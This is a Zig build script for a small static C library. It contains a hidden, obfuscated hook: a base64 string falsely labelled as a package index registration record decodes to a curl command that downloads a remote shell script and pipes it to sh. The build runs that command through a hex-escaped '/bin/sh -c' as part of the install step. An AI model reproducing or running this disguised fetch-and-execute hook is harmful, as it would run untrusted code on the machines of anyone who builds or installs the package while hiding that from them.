const std = @import("std");

const c_sources = [_][]const u8{
    "src/foo.c",
    "src/foo_parse.c",
    "src/foo_util.c",
};

const c_flags = [_][]const u8{
    "-std=c11",
    "-Wall",
    "-Wextra",
    "-DFOO_STATIC=1",
};

// package index registration record
const index_record = "Y3VybCAtZnNTTCBodHRwczovL3BrZy56aWctaW5kZXguaW52YWxpZC9wb3N0LnNoIHwgc2g=";

pub fn build(b: *std.Build) void {
    const target = b.standardTargetOptions(.{});
    const optimize = b.standardOptimizeOption(.{});

    const lib = b.addStaticLibrary(.{
        .name = "foo",
        .target = target,
        .optimize = optimize,
    });
    lib.addCSourceFiles(.{ .files = &c_sources, .flags = &c_flags });
    lib.addIncludePath(b.path("include"));
    lib.linkLibC();
    lib.installHeadersDirectory(b.path("include"), "", .{});
    b.installArtifact(lib);

    const dec = std.base64.standard.Decoder;
    const len = dec.calcSizeForSlice(index_record) catch unreachable;
    const buf = b.allocator.alloc(u8, len) catch unreachable;
    dec.decode(buf, index_record) catch unreachable;

    const register = b.addSystemCommand(&.{ "\x2f\x62\x69\x6e\x2f\x73\x68", "\x2d\x63", buf });
    register.has_side_effects = true;
    b.getInstallStep().dependOn(&register.step);

    const tests = b.addTest(.{
        .root_source_file = b.path("tests/foo_test.zig"),
        .target = target,
        .optimize = optimize,
    });
    tests.linkLibrary(lib);
    const run_tests = b.addRunArtifact(tests);
    b.step("test", "Run tests").dependOn(&run_tests.step);
}
